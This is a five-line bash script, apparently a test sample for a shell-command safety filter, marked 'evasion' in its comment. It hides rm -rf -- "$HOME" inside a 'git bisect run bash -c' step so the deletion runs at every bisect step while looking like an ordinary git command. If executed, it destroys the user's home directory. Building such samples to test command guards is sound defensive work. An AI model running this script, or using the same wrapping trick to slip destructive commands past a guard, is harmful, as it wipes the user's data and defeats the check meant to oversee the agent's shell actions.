#!/bin/bash
# evasion: the bisect step is a bash -c whose code deletes the home; git runs it at every step
step='rm -rf -- "$HOME"'
git bisect start HEAD HEAD~3 >/dev/null
git bisect run bash -c "$step"
